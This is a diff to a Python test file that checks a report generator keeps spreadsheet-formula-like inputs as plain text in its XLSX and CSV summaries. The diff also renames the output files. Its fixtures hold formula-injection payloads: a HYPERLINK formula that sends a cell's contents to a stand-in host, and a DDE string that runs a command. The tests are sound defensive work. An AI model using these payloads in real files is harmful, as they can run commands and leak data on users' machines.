@@ -1,5 +1,5 @@
 """Input is data, never a formula: a unit or metric written like a spreadsheet formula
-stays text in summary.xlsx and summary.csv, while the figures stay numbers."""
+stays text in the summary's XLSX and CSV, while the figures stay numbers."""
 
 from __future__ import annotations
 
@@ -16,6 +16,7 @@ from conftest import SAMPLE, run_pact, write_yaml
 from forms import fill_docx
 
 PERIOD = "so-ket-6-thang"
+TAIL = f"CTD12-2024-{PERIOD}"  # the summary files' names: tong-hop-TAIL.pdf, …
 TTXH = "giam-toi-pham-ttxh"
 UNITS = ['=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "@SUM(A1:A9)"]
 METRICS = ["+1+cmd|' /C calc'!A0", "-2+3"]
@@ -44,10 +45,10 @@ def collected(tmp_path_factory) -> Path:
 
 
 def test_no_formula_in_the_workbook(collected):
-    with zipfile.ZipFile(collected / "summary.xlsx") as archive:
+    with zipfile.ZipFile(collected / f"tong-hop-{TAIL}.xlsx") as archive:
         sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
     assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
-    book = load_workbook(collected / "summary.xlsx")
+    book = load_workbook(collected / f"tong-hop-{TAIL}.xlsx")
     cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
     risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@", "\t", "\r")]
     assert {c.value for c in risky} >= {*UNITS, *METRICS}
@@ -58,11 +59,11 @@ def test_no_formula_in_the_workbook(collected):
 
 
 def test_csv_fields_are_not_formulas(collected):
-    rows = list(csv.DictReader(io.StringIO((collected / "summary.csv").read_text(encoding="utf-8-sig"))))
+    rows = list(csv.DictReader(io.StringIO((collected / f"tong-hop-{TAIL}.csv").read_text(encoding="utf-8-sig"))))
     metrics = {r["metric"] for r in rows}
     assert {f"'{m}" for m in METRICS} <= metrics
     assert not any(m[:1] in ("=", "+", "-", "@", "\t", "\r") for m in metrics)
     change = [r["change_percent"] for r in rows if r["item"] == TTXH and r["change_percent"]]
     assert change == ["-10.0", "-10.0"]  # numbers stay numbers
-    units = (collected / "ranking.csv").read_text(encoding="utf-8-sig")
-    assert "'=HYPERLINK" not in units  # ranking.csv names members by id, never by unit
+    units = (collected / f"xep-hang-{TAIL}.csv").read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK" not in units  # the ranking CSV names members by id, never by unit
